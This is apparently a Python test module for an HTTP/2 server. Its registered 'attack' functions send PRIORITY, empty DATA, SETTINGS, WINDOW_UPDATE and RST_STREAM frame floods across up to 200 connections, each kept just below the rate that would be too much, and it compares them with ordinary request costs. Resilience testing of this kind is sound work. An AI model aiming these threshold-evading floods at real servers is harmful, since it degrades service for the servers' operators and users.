"""Each of many connections stays just below what would be too much of it."""
import time

from registry import attack
from streams import odd, reset_stream
from wire import (DATA, INITIAL_WINDOW, PRIORITY, Connection, Over, call, frame, headers, request_block, settings,
                  window_update)

SECONDS = 0.7


def steady(target, what, per_second, connections=50, begin=b""):
    """The frame that often on each connection."""
    opened = [Connection(target) for _ in range(connections)]
    alive, start, sent = set(opened), time.monotonic(), 0
    for each in opened:
        each.send(begin)
    while (passed := time.monotonic() - start) < SECONDS and alive:
        due = int(passed * per_second) - sent
        if due < max(1, per_second // 200):
            time.sleep(0.002)
            continue
        sent += due
        for each in list(alive):
            try:
                each.send(what * due)
            except Over:
                alive.remove(each)
    endings = [each.ending(0) for each in opened]
    for each in opened:
        each.close()
    return endings


@attack(cpu=1.5, memory=40)
def priorities_just_below(target):
    return steady(target, frame(PRIORITY, 0, 1, bytes(5)), 950, 200)


@attack(cpu=1.5, memory=40)
def empty_data_just_below(target):
    return steady(target, frame(DATA, 0, 1), 950, 200, begin=headers(1, request_block()))


@attack(cpu=1.5, memory=40)
def settings_just_below(target):
    return steady(target, settings(), 9, 200)


@attack(cpu=1.5, memory=60)
def window_settings_just_below(target):
    """With 100 streams open on each."""
    begin = b"".join(headers(each, request_block()) for each in odd(100))
    return steady(target, settings((INITIAL_WINDOW, 0)) + settings((INITIAL_WINDOW, 9)), 4, 200, begin=begin)


@attack(cpu=1.5, memory=40)
def window_updates_just_below(target):
    return steady(target, window_update(0, 1), 950, 200)


@attack(cpu=2.5, memory=60)
def resets_just_below(target):
    """900 at once on each of 50 connections."""
    wave = b"".join(map(reset_stream, odd(900)))
    opened = [Connection(target) for _ in range(50)]
    for each in opened:
        try:
            each.send(wave)
        except Over:
            pass
    time.sleep(0.2)
    endings = [each.ending(0) for each in opened]
    for each in opened:
        each.close()
    return endings


@attack(cpu=3.0, memory=200)
def calls(target):
    """What an ordinary call costs, to compare with: 100 on each of 50 connections."""
    opened = [Connection(target) for _ in range(50)]
    for each in opened:
        each.send(b"".join(map(call, odd(100))))
    for each in opened:
        each.read_until(lambda each: each.answered >= 100, 10)
    endings = [each.ending(0) for each in opened]
    for each in opened:
        each.close()
    return endings
